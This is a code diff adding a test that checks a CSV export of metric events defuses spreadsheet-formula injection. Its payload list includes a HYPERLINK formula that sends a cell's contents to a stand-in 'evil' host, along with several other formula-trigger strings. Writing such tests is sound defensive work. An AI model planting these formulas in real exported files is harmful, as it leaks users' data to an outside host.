@@ -169,6 +169,57 @@ describe('query API (real Postgres)', () => {
     expect(database.pool.totalCount - database.pool.idleCount).toBe(0);
   });
 
+  it('exports formula-looking cells inert (OWASP CSV injection)', async () => {
+    const userId = `csvx-${randomUUID()}`;
+    const recordedAt = new Date(Date.now() - 3_600_000).toISOString();
+    const payloads = [
+      '=HYPERLINK("http://evil/?x="&A1,"click")',
+      '+1+2',
+      '-2+3',
+      '@SUM(A1)',
+      '\tcmd',
+      '\rcmd',
+      'plain',
+    ];
+    await writer.write(
+      payloads.map((deviceId, i) =>
+        event({ userId, deviceId, platform: i === 0 ? '=1+1' : 'ios', voiceSentiment: -0.5, recordedAt }),
+      ),
+    );
+    const stream = await exportMetricEventsCsv(database.pool, {
+      userId,
+      from: new Date(Date.now() - 86_400_000).toISOString(),
+      to: new Date().toISOString(),
+    });
+    let csv = '';
+    for await (const chunk of stream) csv += (chunk as Buffer).toString();
+    const header = csv.slice(0, csv.indexOf('\n')).split(',');
+    const device = header.indexOf('device_id');
+    // Cells in a row: quoted free text never contains a bare comma here, so a split suffices.
+    const cells = csv
+      .trim()
+      .split('\n')
+      .slice(1)
+      .map((line) => line.split(','));
+    const devices = new Set(cells.map((c) => c[device]));
+    expect(devices).toEqual(
+      new Set([
+        // Quotes inside a cell are doubled, and the cell starts with a quote character.
+        `"'=HYPERLINK(""http://evil/?x=""&A1`,
+        `"'+1+2"`,
+        `"'-2+3"`,
+        `"'@SUM(A1)"`,
+        `"'\tcmd"`,
+        `"'\rcmd"`,
+        `"plain"`,
+      ]),
+    );
+    expect(csv).toContain(`"'=1+1"`);
+    // Numbers are not free text: a negative sentiment stays a number.
+    expect(csv).toContain(',-0.5,');
+    expect(csv).not.toContain("'-0.5");
+  });
+
   it('records a session timeline idempotently and shows it to participants only', async () => {
     const sessionId = randomUUID();
     const alice = { id: 'alice', admin: false };
